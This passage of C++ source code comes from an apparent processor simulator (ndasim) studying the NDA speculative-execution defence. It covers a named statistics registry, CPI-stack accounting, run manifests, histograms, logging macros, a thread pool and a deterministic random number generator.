          case Kind::kCounter:
            w.value(*s->counter);
            break;
          case Kind::kFormula:
            w.value(s->formula());
            break;
          case Kind::kHistogram:
            w.raw(s->hist->toJson());
            break;
        }
    }
    while (!open.empty()) {
        w.endObject();
        open.pop_back();
    }
    w.endObject();
    return w.str();
}

std::string
StatsRegistry::dumpText() const
{
    std::vector<const Stat *> sorted;
    sorted.reserve(stats_.size());
    for (const Stat &s : stats_)
        sorted.push_back(&s);
    std::sort(sorted.begin(), sorted.end(),
              [](const Stat *a, const Stat *b) {
                  return a->name < b->name;
              });

    std::string out;
    char buf[256];
    auto line = [&](const std::string &name, const std::string &value,
                    const std::string &desc) {
        std::snprintf(buf, sizeof(buf), "%-48s %16s  # %s\n",
                      name.c_str(), value.c_str(), desc.c_str());
        out += buf;
    };
    char num[64];
    for (const Stat *s : sorted) {
        switch (s->kind) {
          case Kind::kCounter:
            std::snprintf(num, sizeof(num), "%llu",
                          static_cast<unsigned long long>(*s->counter));
            line(s->name, num, s->desc);
            break;
          case Kind::kFormula:
            std::snprintf(num, sizeof(num), "%.6g", s->formula());
            line(s->name, num, s->desc);
            break;
          case Kind::kHistogram: {
            const Histogram &h = *s->hist;
            std::snprintf(num, sizeof(num), "%llu",
                          static_cast<unsigned long long>(h.count()));
            line(s->name + "::count", num, s->desc);
            std::snprintf(num, sizeof(num), "%.6g", h.mean());
            line(s->name + "::mean", num, s->desc);
            static constexpr std::pair<const char *, double> kPcts[] = {
                {"::p50", 0.50}, {"::p95", 0.95}, {"::p99", 0.99}};
            for (const auto &[tag, q] : kPcts) {
                std::snprintf(
                    num, sizeof(num), "%llu",
                    static_cast<unsigned long long>(h.percentile(q)));
                line(s->name + tag, num, s->desc);
            }
            std::snprintf(
                num, sizeof(num), "%llu",
                static_cast<unsigned long long>(h.overflow()));
            line(s->name + "::overflow", num, s->desc);
            break;
          }
        }
    }
    return out;
}

} // namespace nda
