/**
 * @file
 * The canonical stats *schema*: the sorted name list of every stat
 * the fully-featured simulator registers. Built from a Strict-profile
 * OoO core (the superset registrant: perf counters, cache hierarchy,
 * predictor, IQ, LSQ, regfile) plus the DIFT engine and the fuzzing
 * campaign counters. `sim_throughput --stats-schema` prints it and CI
 * diffs it against tests/golden/stats_schema.txt, so a silently
 * dropped or renamed counter fails the build instead of vanishing
 * from every future manifest.
 */

#ifndef NDASIM_OBS_STATS_SCHEMA_HH
#define NDASIM_OBS_STATS_SCHEMA_HH

#include <string>
#include <vector>

namespace nda {

/** Sorted full stat-name list ("core.*", "dift.*", "fuzz.*"). */
std::vector<std::string> canonicalStatsSchema();

} // namespace nda

#endif // NDASIM_OBS_STATS_SCHEMA_HH
