/**
 * @file
 * Named statistics registry in the spirit of gem5's stats framework:
 * every stat-bearing component *binds* its existing counters into a
 * per-run registry under a hierarchical dotted name, and the registry
 * renders the whole tree on demand — as nested JSON (for manifests
 * and tooling) or as a flat gem5-style `stats.txt` listing.
 *
 * Registration is pointer binding only: the hot path keeps mutating
 * its own plain `std::uint64_t` members / `Histogram`s with zero
 * added indirection; the registry dereferences at dump time. The
 * bound objects must therefore outlive the registry's last dump —
 * the intended pattern is a registry per simulation window, torn
 * down with the core it observed.
 */

#ifndef NDASIM_OBS_STATS_REGISTRY_HH
#define NDASIM_OBS_STATS_REGISTRY_HH

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "common/histogram.hh"

namespace nda {

/** Registry of named stats (scalar counters, formulas, histograms). */
class StatsRegistry
{
  public:
    enum class Kind : std::uint8_t { kCounter, kFormula, kHistogram };

    /** One registered stat. Exactly one binding is active per Kind. */
    struct Stat {
        std::string name; ///< full dotted path, e.g. "core.commit.insts"
        std::string desc;
        Kind kind = Kind::kCounter;
        const std::uint64_t *counter = nullptr;
        std::function<double()> formula;
        const Histogram *hist = nullptr;
    };

    /**
     * Prefix-carrying view used by components to register under their
     * own subtree without knowing the full path:
     *
     *   void Cache::registerStats(StatsRegistry::Group g) {
     *       g.counter("hits", &hits_, "lookups that hit");
     *   }
     *   cache.registerStats(reg.group("mem.l1d"));
     */
    class Group
    {
      public:
        Group(StatsRegistry &reg, std::string prefix)
            : reg_(&reg), prefix_(std::move(prefix))
        {
        }

        /** Subgroup `prefix.sub`. */
        Group
        group(const std::string &sub) const
        {
            return Group(*reg_, join(sub));
        }

        void
        counter(const std::string &name, const std::uint64_t *v,
                const std::string &desc) const
        {
            reg_->addCounter(join(name), v, desc);
        }

        void
        formula(const std::string &name, std::function<double()> f,
                const std::string &desc) const
        {
            reg_->addFormula(join(name), std::move(f), desc);
        }

        void
        histogram(const std::string &name, const Histogram *h,
                  const std::string &desc) const
        {
            reg_->addHistogram(join(name), h, desc);
        }

      private:
        std::string
        join(const std::string &leaf) const
        {
            return prefix_.empty() ? leaf : prefix_ + "." + leaf;
        }

        StatsRegistry *reg_;
        std::string prefix_;
    };

    Group group(const std::string &prefix) { return Group(*this, prefix); }

    /** Bind a live counter. Duplicate names panic: a silently
     *  shadowed stat is exactly the regression this layer exists to
     *  catch. */
    void addCounter(const std::string &name, const std::uint64_t *v,
                    const std::string &desc);

    /** Bind a derived value evaluated at dump time. */
    void addFormula(const std::string &name, std::function<double()> f,
                    const std::string &desc);

    /** Bind a live histogram. */
    void addHistogram(const std::string &name, const Histogram *h,
                      const std::string &desc);

    std::size_t size() const { return stats_.size(); }
    const std::vector<Stat> &stats() const { return stats_; }

    /** All registered names, sorted — the stats *schema*. CI diffs
     *  this against tests/golden/stats_schema.txt so silently dropped
     *  counters fail the build. */
    std::vector<std::string> names() const;

    /**
     * Nested JSON object keyed by the dotted hierarchy:
     * "core.commit.insts" renders as {"core":{"commit":{"insts":N}}}.
     * Keys are sorted; histograms render via Histogram::toJson().
     */
    std::string dumpJson() const;

    /**
     * Flat gem5-style `stats.txt` listing, one line per stat:
     * `name  value  # description`, histograms expanded into
     * ::count/::mean/::p50/::p95/::p99 rows.
     */
    std::string dumpText() const;

  private:
    void addStat(Stat s);

    std::vector<Stat> stats_;
};

} // namespace nda

#endif // NDASIM_OBS_STATS_REGISTRY_HH
