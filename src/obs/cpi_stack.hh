/**
 * @file
 * Causal CPI-stack accounting (interval analysis over commit slots).
 *
 * Every cycle the commit stage owns `commitWidth` retirement slots;
 * a slot either retires an instruction or is *lost* to exactly one
 * root cause found by walking the dependence chain from the blocked
 * ROB head (NDA tag-broadcast deferral by producer class, an
 * outstanding miss, a full MSHR file, squash refetch by cause, a
 * capacity limit, frontend starvation, ...). The decomposition is
 * exact by construction:
 *
 *     sum over causes of slots[cause] == commitWidth x cycles
 *
 * so dividing by (commitWidth x committed instructions) turns the
 * stack into an exact CPI decomposition, and the NDA-vs-baseline CPI
 * delta is explained term by term (DESIGN.md section 14).
 *
 * The profiler itself is a passive counter sink with no core
 * dependencies: the attribution walk lives in the cores (they own the
 * micro-architectural state it reads), and they feed slots in through
 * addSlots() behind a null-guarded pointer — detached simulation pays
 * nothing, like the DIFT engine and the invariant checker.
 */

#ifndef NDASIM_OBS_CPI_STACK_HH
#define NDASIM_OBS_CPI_STACK_HH

#include <cstdint>
#include <string>

#include "common/types.hh"
#include "obs/hotspot_profiler.hh"

namespace nda {

class StatsRegistry;

/** Bind the stack's counters under `prefix` (canonically
 *  "core.cpi_stack"). Pointer binding only, like every registerStats
 *  in the tree; the profiler must outlive the registry's last dump. */
class CpiStackProfiler
{
  public:
    explicit CpiStackProfiler(unsigned commit_width)
        : width_(commit_width)
    {
    }

    /** Commit width the slot identity is defined against. */
    unsigned width() const { return width_; }

    /** One call per simulated cycle while attached. */
    void onCycle() { ++cycles_; }

    /** Charge `n` slots of this cycle to `cause`, attributed to the
     *  root instruction at `pc` (the *causal* PC: for an NDA deferral
     *  that is the deferred producer, not the stalled consumer). */
    void
    addSlots(StallCause cause, std::uint64_t n, Addr pc)
    {
        slots_[static_cast<int>(cause)] += n;
        hotspots_.record(pc, cause, n);
    }

    std::uint64_t cycles() const { return cycles_; }

    std::uint64_t
    slots(StallCause cause) const
    {
        return slots_[static_cast<int>(cause)];
    }

    /** The identity's right-hand side: width x cycles. */
    std::uint64_t
    totalSlots() const
    {
        return static_cast<std::uint64_t>(width_) * cycles_;
    }

    /** The identity's left-hand side: sum of all cause buckets. */
    std::uint64_t accountedSlots() const;

    const HotspotProfiler &hotspots() const { return hotspots_; }
    HotspotProfiler &hotspots() { return hotspots_; }

    /** Fraction of all slots lost to `cause` (0 when no cycles). */
    double slotFraction(StallCause cause) const;

    /** Zero every bucket and the hotspot map (measurement-window
     *  boundary, alongside PerfCounters::reset). */
    void reset();

    /** Bind slots per cause + cycles/width + identity formulas under
     *  `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    unsigned width_;
    std::uint64_t cycles_ = 0;
    std::uint64_t slots_[static_cast<int>(StallCause::kNumCauses)] = {};
    HotspotProfiler hotspots_;
};

} // namespace nda

#endif // NDASIM_OBS_CPI_STACK_HH
