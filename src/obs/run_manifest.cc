#include "obs/run_manifest.hh"

#include <cstdio>

#include "common/log.hh"
#include "obs/json_writer.hh"

#ifndef NDASIM_GIT_DESCRIBE
#define NDASIM_GIT_DESCRIBE "unknown"
#endif

namespace nda {

const char *
RunManifest::gitDescribe()
{
    return NDASIM_GIT_DESCRIBE;
}

RunManifest::Field &
RunManifest::addField(const std::string &key, FieldKind kind)
{
    // Last write wins so callers can refine a default.
    for (Field &f : fields_) {
        if (f.key == key) {
            f = Field{};
            f.key = key;
            f.kind = kind;
            return f;
        }
    }
    Field f;
    f.key = key;
    f.kind = kind;
    fields_.push_back(std::move(f));
    return fields_.back();
}

void
RunManifest::set(const std::string &key, const std::string &value)
{
    addField(key, FieldKind::kString).s = value;
}

void
RunManifest::set(const std::string &key, const char *value)
{
    addField(key, FieldKind::kString).s = value;
}

void
RunManifest::set(const std::string &key, std::uint64_t value)
{
    addField(key, FieldKind::kUint).u = value;
}

void
RunManifest::set(const std::string &key, double value)
{
    addField(key, FieldKind::kDouble).d = value;
}

void
RunManifest::set(const std::string &key, bool value)
{
    addField(key, FieldKind::kBool).b = value;
}

void
RunManifest::setRaw(const std::string &key, std::string json)
{
    addField(key, FieldKind::kRaw).s = std::move(json);
}

std::string
RunManifest::toJson() const
{
    JsonWriter w;
    w.beginObject();
    w.key("tool");
    w.value("ndasim");
    w.key("bench");
    w.value(bench_);
    w.key("git");
    w.value(gitDescribe());
    w.key("manifest_version");
    w.value(1);

    w.key("fields");
    w.beginObject();
    for (const Field &f : fields_) {
        w.key(f.key);
        switch (f.kind) {
          case FieldKind::kString: w.value(f.s); break;
          case FieldKind::kUint: w.value(f.u); break;
          case FieldKind::kDouble: w.value(f.d); break;
          case FieldKind::kBool: w.value(f.b); break;
          case FieldKind::kRaw: w.raw(f.s); break;
        }
    }
    w.endObject();

    w.key("timings_sec");
    w.beginObject();
    if (timings_) {
        for (const auto &p : timings_->phases()) {
            w.key(p.first);
            w.value(p.second);
        }
        w.key("total");
        w.value(timings_->total());
    }
    w.endObject();

    w.key("stats");
    if (stats_)
        w.raw(stats_->dumpJson());
    else
        w.raw("{}");

    w.endObject();
    return w.str();
}

bool
RunManifest::writeFile(const std::string &path) const
{
    std::FILE *f = std::fopen(path.c_str(), "w");
    if (!f) {
        NDA_WARN("cannot open '%s' for writing", path.c_str());
        return false;
    }
    const std::string json = toJson() + "\n";
    const std::size_t n =
        std::fwrite(json.data(), 1, json.size(), f);
    const int closed = std::fclose(f);
    const bool ok = n == json.size() && closed == 0;
    if (!ok)
        NDA_WARN("short write to '%s'", path.c_str());
    return ok;
}

} // namespace nda
