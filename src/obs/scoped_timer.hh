/**
 * @file
 * Wall-clock phase timing for run manifests. A bench binary declares
 * one PhaseTimings and brackets each phase ("warmup", "measure",
 * "report") with a ScopedTimer; RunManifest serializes the result so
 * a stats.json consumer can see where the wall-clock went.
 *
 * This is host time, not simulated time — never use it inside the
 * simulation for anything that affects results (determinism).
 */

#ifndef NDASIM_OBS_SCOPED_TIMER_HH
#define NDASIM_OBS_SCOPED_TIMER_HH

#include <chrono>
#include <string>
#include <utility>
#include <vector>

namespace nda {

/** Ordered list of (phase name, elapsed seconds) pairs. */
class PhaseTimings
{
  public:
    void
    record(const std::string &name, double seconds)
    {
        // Re-entering a phase (e.g. one timer per grid cell)
        // accumulates rather than duplicating the row.
        for (auto &p : phases_) {
            if (p.first == name) {
                p.second += seconds;
                return;
            }
        }
        phases_.emplace_back(name, seconds);
    }

    const std::vector<std::pair<std::string, double>> &
    phases() const
    {
        return phases_;
    }

    double
    total() const
    {
        double t = 0.0;
        for (const auto &p : phases_)
            t += p.second;
        return t;
    }

  private:
    std::vector<std::pair<std::string, double>> phases_;
};

/** RAII timer: records elapsed wall-clock into a PhaseTimings slot. */
class ScopedTimer
{
  public:
    ScopedTimer(PhaseTimings &sink, std::string name)
        : sink_(sink), name_(std::move(name)),
          start_(std::chrono::steady_clock::now())
    {
    }

    ScopedTimer(const ScopedTimer &) = delete;
    ScopedTimer &operator=(const ScopedTimer &) = delete;

    ~ScopedTimer() { stop(); }

    /** Record now instead of at scope exit (idempotent). */
    void
    stop()
    {
        if (stopped_)
            return;
        stopped_ = true;
        const auto end = std::chrono::steady_clock::now();
        sink_.record(name_,
                     std::chrono::duration<double>(end - start_).count());
    }

  private:
    PhaseTimings &sink_;
    std::string name_;
    std::chrono::steady_clock::time_point start_;
    bool stopped_ = false;
};

} // namespace nda

#endif // NDASIM_OBS_SCOPED_TIMER_HH
