#include "common/histogram.hh"

#include <algorithm>
#include <cstdio>

namespace nda {

Histogram::Histogram(std::size_t max_value)
    : buckets_(max_value + 2, 0)
{
}

void
Histogram::add(std::uint64_t value)
{
    const std::size_t overflow = buckets_.size() - 1;
    const std::size_t idx =
        value < overflow ? static_cast<std::size_t>(value) : overflow;
    ++buckets_[idx];
    ++count_;
    sum_ += value;
}

double
Histogram::mean() const
{
    return count_ ? static_cast<double>(sum_) / static_cast<double>(count_)
                  : 0.0;
}

std::uint64_t
Histogram::percentile(double q) const
{
    if (count_ == 0)
        return 0;
    const auto target =
        static_cast<std::uint64_t>(q * static_cast<double>(count_));
    std::uint64_t seen = 0;
    for (std::size_t i = 0; i < buckets_.size(); ++i) {
        seen += buckets_[i];
        if (seen > target)
            return i;
    }
    return buckets_.size() - 1;
}

void
Histogram::merge(const Histogram &other)
{
    const std::size_t overflow = buckets_.size() - 1;
    for (std::size_t v = 0; v < other.buckets_.size(); ++v) {
        if (!other.buckets_[v])
            continue;
        // The other histogram's overflow bucket holds samples of
        // unknown magnitude; they stay overflow here (its index can
        // only be >= a smaller histogram's cap after clamping).
        buckets_[std::min(v, overflow)] += other.buckets_[v];
    }
    count_ += other.count_;
    sum_ += other.sum_;
}

void
Histogram::reset()
{
    for (auto &b : buckets_)
        b = 0;
    count_ = 0;
    sum_ = 0;
}

std::string
Histogram::summary() const
{
    char buf[160];
    std::snprintf(buf, sizeof(buf),
                  "n=%llu mean=%.2f p50=%llu p95=%llu p99=%llu "
                  "ovf=%llu",
                  static_cast<unsigned long long>(count_), mean(),
                  static_cast<unsigned long long>(percentile(0.50)),
                  static_cast<unsigned long long>(percentile(0.95)),
                  static_cast<unsigned long long>(percentile(0.99)),
                  static_cast<unsigned long long>(overflow()));
    return buf;
}

std::string
Histogram::toJson() const
{
    char buf[256];
    std::snprintf(buf, sizeof(buf),
                  "{\"count\": %llu, \"mean\": %.6g, \"p50\": %llu, "
                  "\"p95\": %llu, \"p99\": %llu, \"overflow\": %llu, "
                  "\"buckets\": {",
                  static_cast<unsigned long long>(count_), mean(),
                  static_cast<unsigned long long>(percentile(0.50)),
                  static_cast<unsigned long long>(percentile(0.95)),
                  static_cast<unsigned long long>(percentile(0.99)),
                  static_cast<unsigned long long>(overflow()));
    std::string out = buf;
    bool first = true;
    for (std::size_t v = 0; v < buckets_.size(); ++v) {
        if (!buckets_[v])
            continue;
        std::snprintf(buf, sizeof(buf), "%s\"%zu\": %llu",
                      first ? "" : ", ", v,
                      static_cast<unsigned long long>(buckets_[v]));
        out += buf;
        first = false;
    }
    out += "}}";
    return out;
}

} // namespace nda
