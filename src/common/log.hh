/**
 * @file
 * Minimal logging / fatal-error helpers in the spirit of gem5's
 * base/logging.hh: panic() for simulator bugs, fatal() for user errors,
 * warn()/inform() for status messages.
 */

#ifndef NDASIM_COMMON_LOG_HH
#define NDASIM_COMMON_LOG_HH

#include <cstdio>
#include <cstdlib>
#include <string>

namespace nda {

/** Global verbosity: 0 = quiet, 1 = inform, 2 = debug. */
extern int logVerbosity;

[[noreturn]] void panicImpl(const char *file, int line, const std::string &msg);
[[noreturn]] void fatalImpl(const char *file, int line, const std::string &msg);
void warnImpl(const std::string &msg);
void informImpl(const std::string &msg);

namespace detail {

std::string formatMessage(const char *fmt, ...)
    __attribute__((format(printf, 1, 2)));

} // namespace detail

} // namespace nda

/** Something happened that should never happen: a simulator bug. */
#define NDA_PANIC(...) \
    ::nda::panicImpl(__FILE__, __LINE__, \
                     ::nda::detail::formatMessage(__VA_ARGS__))

/** The simulation cannot continue due to a user/configuration error. */
#define NDA_FATAL(...) \
    ::nda::fatalImpl(__FILE__, __LINE__, \
                     ::nda::detail::formatMessage(__VA_ARGS__))

#define NDA_WARN(...) \
    ::nda::warnImpl(::nda::detail::formatMessage(__VA_ARGS__))

#define NDA_INFORM(...) \
    ::nda::informImpl(::nda::detail::formatMessage(__VA_ARGS__))

/**
 * Invariant check that survives NDEBUG; panics with context on failure.
 * Always requires a printf-style message after the condition.
 */
#define NDA_ASSERT(cond, ...) \
    do { \
        if (!(cond)) { \
            ::nda::panicImpl(__FILE__, __LINE__, \
                std::string("assertion failed: ") + #cond + "; " + \
                ::nda::detail::formatMessage(__VA_ARGS__)); \
        } \
    } while (0)

#endif // NDASIM_COMMON_LOG_HH
