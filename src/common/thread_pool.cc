#include "common/thread_pool.hh"

#include <algorithm>

namespace nda {

unsigned
ThreadPool::defaultConcurrency()
{
    return std::max(1u, std::thread::hardware_concurrency());
}

ThreadPool::ThreadPool(unsigned concurrency)
{
    if (concurrency == 0)
        concurrency = defaultConcurrency();
    threads_.reserve(concurrency - 1);
    for (unsigned i = 0; i + 1 < concurrency; ++i)
        threads_.emplace_back([this] { workerLoop(); });
}

ThreadPool::~ThreadPool()
{
    {
        std::lock_guard<std::mutex> lock(mutex_);
        stopping_ = true;
    }
    workCv_.notify_all();
    for (std::thread &t : threads_)
        t.join();
}

void
ThreadPool::drain(Batch &b)
{
    for (;;) {
        const std::size_t i =
            b.next.fetch_add(1, std::memory_order_relaxed);
        if (i >= b.n)
            break;
        try {
            (*b.fn)(i);
        } catch (...) {
            // Record the first failure and abandon every index not
            // yet claimed; `pending` must account for the abandoned
            // range so the submitter's wait still terminates.
            const std::size_t old = b.next.exchange(b.n);
            std::lock_guard<std::mutex> lock(mutex_);
            if (!b.error)
                b.error = std::current_exception();
            if (old < b.n) {
                b.pending.fetch_sub(b.n - old,
                                    std::memory_order_acq_rel);
            }
        }
        b.pending.fetch_sub(1, std::memory_order_acq_rel);
    }
}

void
ThreadPool::workerLoop()
{
    std::uint64_t seen = 0;
    for (;;) {
        Batch *b = nullptr;
        {
            std::unique_lock<std::mutex> lock(mutex_);
            workCv_.wait(lock, [&] {
                return stopping_ || (batch_ && generation_ != seen);
            });
            if (stopping_)
                return;
            seen = generation_;
            b = batch_;
            // `active` is raised while the lock is held so the
            // submitter cannot observe completion (and destroy the
            // stack-allocated batch) while we still hold a pointer.
            ++b->active;
        }
        drain(*b);
        {
            std::lock_guard<std::mutex> lock(mutex_);
            --b->active;
        }
        doneCv_.notify_all();
    }
}

void
ThreadPool::parallelFor(std::size_t n,
                        const std::function<void(std::size_t)> &fn)
{
    if (n == 0)
        return;
    if (threads_.empty() || n == 1) {
        // Serial path: identical to the pre-pool harness.
        for (std::size_t i = 0; i < n; ++i)
            fn(i);
        return;
    }

    Batch b;
    b.fn = &fn;
    b.n = n;
    b.pending.store(n, std::memory_order_relaxed);
    {
        std::lock_guard<std::mutex> lock(mutex_);
        batch_ = &b;
        ++generation_;
    }
    workCv_.notify_all();
    drain(b);
    {
        std::unique_lock<std::mutex> lock(mutex_);
        doneCv_.wait(lock, [&] {
            return b.active == 0 &&
                   b.pending.load(std::memory_order_acquire) == 0;
        });
        batch_ = nullptr;
        if (b.error)
            std::rethrow_exception(b.error);
    }
}

} // namespace nda
