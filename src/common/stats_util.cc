#include "common/stats_util.hh"

#include <cmath>

namespace nda {

double
sampleMean(const std::vector<double> &xs)
{
    if (xs.empty())
        return 0.0;
    double sum = 0.0;
    for (double x : xs)
        sum += x;
    return sum / static_cast<double>(xs.size());
}

double
sampleStddev(const std::vector<double> &xs)
{
    const std::size_t n = xs.size();
    if (n < 2)
        return 0.0;
    const double mean = sampleMean(xs);
    double acc = 0.0;
    for (double x : xs)
        acc += (x - mean) * (x - mean);
    return std::sqrt(acc / static_cast<double>(n - 1));
}

namespace {

/** Two-sided 95% Student-t critical values for df = 1..30. */
constexpr double kT95[31] = {
    0.0,    12.706, 4.303, 3.182, 2.776, 2.571, 2.447, 2.365,
    2.306,  2.262,  2.228, 2.201, 2.179, 2.160, 2.145, 2.131,
    2.120,  2.110,  2.101, 2.093, 2.086, 2.080, 2.074, 2.069,
    2.064,  2.060,  2.056, 2.052, 2.048, 2.045, 2.042,
};

} // namespace

double
confidenceHalfWidth95(const std::vector<double> &xs)
{
    const std::size_t n = xs.size();
    if (n < 2)
        return 0.0;
    const std::size_t df = n - 1;
    const double t = df <= 30 ? kT95[df] : 1.960;
    return t * sampleStddev(xs) / std::sqrt(static_cast<double>(n));
}

double
geomean(const std::vector<double> &xs)
{
    if (xs.empty())
        return 0.0;
    double acc = 0.0;
    for (double x : xs)
        acc += std::log(x);
    return std::exp(acc / static_cast<double>(xs.size()));
}

} // namespace nda
