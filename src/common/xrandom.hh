/**
 * @file
 * Small deterministic PRNG (xoshiro256**) used by workload generators
 * and property tests. Deterministic across platforms, unlike
 * std::mt19937 distributions.
 */

#ifndef NDASIM_COMMON_XRANDOM_HH
#define NDASIM_COMMON_XRANDOM_HH

#include <cstdint>

namespace nda {

/** Deterministic 64-bit PRNG with a splitmix64-seeded xoshiro256** core. */
class XRandom
{
  public:
    explicit XRandom(std::uint64_t seed) { reseed(seed); }

    /** Re-initialize the generator state from a 64-bit seed. */
    void
    reseed(std::uint64_t seed)
    {
        std::uint64_t x = seed;
        for (auto &word : state_) {
            // splitmix64 step
            x += 0x9e3779b97f4a7c15ULL;
            std::uint64_t z = x;
            z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
            z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
            word = z ^ (z >> 31);
        }
    }

    /** Next raw 64-bit value. */
    std::uint64_t
    next()
    {
        const std::uint64_t result = rotl(state_[1] * 5, 7) * 9;
        const std::uint64_t t = state_[1] << 17;
        state_[2] ^= state_[0];
        state_[3] ^= state_[1];
        state_[1] ^= state_[2];
        state_[0] ^= state_[3];
        state_[2] ^= t;
        state_[3] = rotl(state_[3], 45);
        return result;
    }

    /** Uniform value in [0, bound); bound must be non-zero. */
    std::uint64_t
    below(std::uint64_t bound)
    {
        return next() % bound;
    }

    /** Uniform value in [lo, hi] inclusive. */
    std::uint64_t
    range(std::uint64_t lo, std::uint64_t hi)
    {
        return lo + below(hi - lo + 1);
    }

    /** Bernoulli draw: true with probability num/den. */
    bool
    chance(std::uint64_t num, std::uint64_t den)
    {
        return below(den) < num;
    }

    /** Uniform double in [0, 1). */
    double
    uniform()
    {
        return static_cast<double>(next() >> 11) * 0x1.0p-53;
    }

  private:
    static std::uint64_t
    rotl(std::uint64_t x, int k)
    {
        return (x << k) | (x >> (64 - k));
    }

    std::uint64_t state_[4] = {};
};

} // namespace nda

#endif // NDASIM_COMMON_XRANDOM_HH
