/**
 * @file
 * Small statistics helpers: sample mean, 95% confidence interval
 * (Student-t for small samples), geometric mean, and a running-mean
 * accumulator. Used by the SMARTS-style sampling harness (paper §6.1).
 */

#ifndef NDASIM_COMMON_STATS_UTIL_HH
#define NDASIM_COMMON_STATS_UTIL_HH

#include <cstddef>
#include <vector>

namespace nda {

/** Mean of a sample; 0 for an empty sample. */
double sampleMean(const std::vector<double> &xs);

/** Unbiased sample standard deviation; 0 for n < 2. */
double sampleStddev(const std::vector<double> &xs);

/**
 * Half-width of the 95% confidence interval on the mean, using
 * Student-t critical values for n <= 30 and the normal value above.
 */
double confidenceHalfWidth95(const std::vector<double> &xs);

/** Geometric mean; inputs must be positive. 0 for an empty sample. */
double geomean(const std::vector<double> &xs);

/** Incremental mean/min/max accumulator. */
class RunningStat
{
  public:
    void
    add(double x)
    {
        ++count_;
        sum_ += x;
        if (count_ == 1 || x < min_)
            min_ = x;
        if (count_ == 1 || x > max_)
            max_ = x;
    }

    std::size_t count() const { return count_; }
    double sum() const { return sum_; }
    double mean() const { return count_ ? sum_ / count_ : 0.0; }
    double min() const { return min_; }
    double max() const { return max_; }

    void
    reset()
    {
        count_ = 0;
        sum_ = 0.0;
        min_ = 0.0;
        max_ = 0.0;
    }

  private:
    std::size_t count_ = 0;
    double sum_ = 0.0;
    double min_ = 0.0;
    double max_ = 0.0;
};

} // namespace nda

#endif // NDASIM_COMMON_STATS_UTIL_HH
