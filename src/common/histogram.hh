/**
 * @file
 * Fixed-bucket integer histogram used for latency distributions
 * (e.g., dispatch-to-issue latency, Fig 9d).
 */

#ifndef NDASIM_COMMON_HISTOGRAM_HH
#define NDASIM_COMMON_HISTOGRAM_HH

#include <cstdint>
#include <string>
#include <vector>

namespace nda {

/**
 * Histogram over non-negative integer samples with unit-width buckets
 * up to a cap; samples beyond the cap land in an overflow bucket.
 */
class Histogram
{
  public:
    explicit Histogram(std::size_t max_value = 256);

    /** Record one sample. */
    void add(std::uint64_t value);

    /** Number of recorded samples. */
    std::uint64_t count() const { return count_; }

    /** Arithmetic mean of recorded samples. */
    double mean() const;

    /** Smallest value v such that at least `q` of samples are <= v. */
    std::uint64_t percentile(double q) const;

    /**
     * Samples that landed beyond the cap. A nonzero count means the
     * tail percentiles are clamped to the overflow index — size the
     * histogram up (or treat p99 as a lower bound) when this grows.
     */
    std::uint64_t overflow() const { return buckets_.back(); }

    /** Bucket counts (last bucket is overflow). */
    const std::vector<std::uint64_t> &buckets() const { return buckets_; }

    /**
     * Fold another histogram into this one (used when reducing
     * per-window histograms into a run aggregate). Buckets are merged
     * by sample value; samples beyond this histogram's cap land in
     * its overflow bucket.
     */
    void merge(const Histogram &other);

    /** Reset all counts. */
    void reset();

    /** Render a compact textual summary (n, mean, p50/p95/p99). */
    std::string summary() const;

    /**
     * JSON object with count/mean/percentiles plus the sparse nonzero
     * buckets, e.g. {"count":3,...,"buckets":{"2":1,"7":2}}. Used by
     * the StatsRegistry dumper (obs/stats_registry.hh).
     */
    std::string toJson() const;

  private:
    std::vector<std::uint64_t> buckets_;
    std::uint64_t count_ = 0;
    std::uint64_t sum_ = 0;
};

} // namespace nda

#endif // NDASIM_COMMON_HISTOGRAM_HH
