/**
 * @file
 * Fixed-size worker pool with a `parallelFor(n, fn)` primitive for
 * the experiment harness. Tasks are identified by a dense index so
 * callers write results into pre-sized slots — the reduction order is
 * then fixed by the caller, independent of scheduling, which is what
 * keeps parallel sweeps bit-identical to serial ones.
 *
 * A pool of concurrency 1 spawns no threads at all: `parallelFor`
 * degenerates to a plain loop on the calling thread, reproducing the
 * serial path exactly.
 */

#ifndef NDASIM_COMMON_THREAD_POOL_HH
#define NDASIM_COMMON_THREAD_POOL_HH

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <exception>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

namespace nda {

/** Fixed set of workers executing index-addressed task batches. */
class ThreadPool
{
  public:
    /**
     * @param concurrency total concurrent lanes, including the thread
     *        that calls parallelFor() (which participates in the
     *        work). 0 is treated as defaultConcurrency().
     */
    explicit ThreadPool(unsigned concurrency);
    ~ThreadPool();

    ThreadPool(const ThreadPool &) = delete;
    ThreadPool &operator=(const ThreadPool &) = delete;

    /** Total concurrent lanes (worker threads + the caller). */
    unsigned concurrency() const
    {
        return static_cast<unsigned>(threads_.size()) + 1;
    }

    /**
     * Run `fn(i)` for every i in [0, n), distributing indices over
     * the pool, and block until all have finished. The caller's
     * thread works too, so a concurrency-1 pool runs everything
     * inline. If any invocation throws, the first exception observed
     * is rethrown here after the batch drains (remaining indices are
     * abandoned, not started).
     */
    void parallelFor(std::size_t n,
                     const std::function<void(std::size_t)> &fn);

    /** std::thread::hardware_concurrency() with a floor of 1. */
    static unsigned defaultConcurrency();

  private:
    /** One batch of indexed tasks; lives on parallelFor's stack. */
    struct Batch {
        const std::function<void(std::size_t)> *fn = nullptr;
        std::size_t n = 0;
        std::atomic<std::size_t> next{0};     ///< next index to claim
        std::atomic<std::size_t> pending{0};  ///< indices not yet done
        unsigned active = 0;  ///< workers inside drain(); pool mutex
        std::exception_ptr error;             ///< guarded by pool mutex
    };

    void workerLoop();
    /** Claim and run indices of `b` until exhausted. */
    void drain(Batch &b);

    std::vector<std::thread> threads_;
    std::mutex mutex_;
    std::condition_variable workCv_;  ///< wakes workers
    std::condition_variable doneCv_;  ///< wakes the submitter
    Batch *batch_ = nullptr;          ///< current batch, if any
    std::uint64_t generation_ = 0;    ///< bumped per batch
    bool stopping_ = false;
};

} // namespace nda

#endif // NDASIM_COMMON_THREAD_POOL_HH
