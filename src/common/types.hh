/**
 * @file
 * Fundamental scalar types shared across the simulator.
 */

#ifndef NDASIM_COMMON_TYPES_HH
#define NDASIM_COMMON_TYPES_HH

#include <cstdint>
#include <limits>

namespace nda {

/** Byte address in the simulated physical/virtual address space. */
using Addr = std::uint64_t;

